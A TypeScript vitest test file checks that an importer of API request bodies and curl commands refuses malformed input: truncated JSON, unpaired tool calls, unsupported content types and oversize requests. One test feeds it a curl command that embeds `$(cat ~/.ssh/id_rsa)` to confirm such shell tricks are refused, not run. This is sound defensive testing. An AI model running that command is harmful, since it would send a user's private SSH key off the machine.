import { describe, expect, it } from 'vitest';
import { convertRequestText, findRequestTexts } from './convert-request-text';
import { MAX_REQUEST_CHARS } from './imported-request';
import { OPTIONS } from './request-fixtures.test-helper';

const body = (messages: unknown[], extra: Record<string, unknown> = {}) =>
  JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: 100, messages, ...extra });
const call = (id: string) => ({ role: 'assistant', content: [{ type: 'tool_use', id, name: 't', input: {} }] });
const result = (id: string) => ({ role: 'user', content: [{ type: 'tool_result', tool_use_id: id, content: 'r' }] });
const ask = { role: 'user', content: 'go' };

/** `expect.stringContaining`, typed. */
const containing = (text: string): string => expect.stringContaining(text) as unknown as string; // eslint-disable-line @typescript-eslint/no-unnecessary-type-assertion -- expect.stringContaining is any

const problem = (request: string, response?: string) => {
  const out = convertRequestText(response === undefined ? { request } : { request, response }, OPTIONS);
  if (out.ok) throw new Error('accepted');
  expect(out.problems).toHaveLength(1);
  return out.problems[0]!;
};

describe('bad requests are refused with a problem naming what is wrong', () => {
  it('a truncated body', () => {
    const text = body([ask, call('a'), result('a')]);
    expect(problem(text.slice(0, text.length - 20))).toMatchObject({
      path: '(request)',
      expected: 'valid JSON',
      got: containing('cut short'),
    });
  });

  it('an unpaired tool call, a result with no call, a repeated id', () => {
    expect(problem(body([ask, call('a'), ask]))).toMatchObject({
      path: 'messages[1] tool call 1',
      got: containing('unpaired'),
    });
    expect(
      problem(body([ask, call('a'), { role: 'user', content: [...result('a').content, ...result('zz').content] }])),
    ).toMatchObject({ path: 'messages[2].content[1]', got: containing('no call asked for') });
    expect(problem(body([ask, call('a'), result('a'), call('a'), result('a')]))).toMatchObject({
      path: 'messages[3] tool call 1',
      got: containing('again'),
    });
  });

  it('unknown content types, server tools, URL images', () => {
    expect(problem(body([{ role: 'user', content: [{ type: 'audio', data: 'x' }] }]))).toMatchObject({
      path: 'messages[0].content[0].type',
      got: 'the text "audio"',
    });
    expect(problem(body([ask], { tools: [{ type: 'web_search_20250305', name: 'web_search' }] }))).toMatchObject({
      path: 'tools[0].type',
    });
    expect(
      problem(
        body([{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://evil/x.png' } }] }]),
      ),
    ).toMatchObject({ path: 'messages[0].content[0].source.type' });
    expect(
      problem(
        JSON.stringify({
          model: 'm',
          messages: [
            { role: 'user', content: [{ type: 'input_audio' }] },
            { role: 'tool', tool_call_id: 'x', content: 'r' },
          ],
        }),
      ),
    ).toMatchObject({ path: 'messages[0].content[0].type' });
  });

  it('a Chat tool call whose arguments are not JSON', () => {
    const chat = JSON.stringify({
      model: 'm',
      messages: [
        { role: 'user', content: 'go' },
        {
          role: 'assistant',
          content: null,
          tool_calls: [{ id: 'c', type: 'function', function: { name: 't', arguments: '{"a":' } }],
        },
        { role: 'tool', tool_call_id: 'c', content: 'r' },
      ],
    });
    expect(problem(chat)).toMatchObject({ path: 'messages[1].tool_calls[0].function.arguments' });
  });

  it('a request over the size cap, and a response to a request that already ends with the model', () => {
    expect(problem(`{"model":"m","messages":[],"pad":"${'x'.repeat(MAX_REQUEST_CHARS)}"}`)).toMatchObject({
      expected: containing('at most 20 MB'),
    });
    expect(
      problem(body([ask, { role: 'assistant', content: 'done' }]), '{"content":[],"stop_reason":"end_turn"}'),
    ).toMatchObject({ path: 'messages' });
  });

  it('a curl with shell tricks is refused, not run', () => {
    expect(problem(`curl https://api.anthropic.com/v1/messages -d "$(cat ~/.ssh/id_rsa)"`)).toMatchObject({
      path: '(curl)',
      got: containing('“$”'),
    });
  });
});

describe('findRequestTexts (the import path’s detector)', () => {
  it('takes a curl, a provider body and the dialog’s envelope; leaves a transcript and other JSON alone', () => {
    expect(findRequestTexts('curl https://x -d {}')).toEqual({ request: 'curl https://x -d {}' });
    expect(findRequestTexts(body([ask]))).toEqual({ request: body([ask]) });
    expect(findRequestTexts(JSON.stringify({ format: 'loupe-request', request: 'R', response: 'S' }))).toEqual({
      request: 'R',
      response: 'S',
    });
    expect(findRequestTexts(JSON.stringify({ format: 'loupe-transcript', model: 'm', messages: [] }))).toBeUndefined();
    expect(findRequestTexts('{"a":1}')).toBeUndefined();
    expect(findRequestTexts('not json')).toBeUndefined();
  });
});
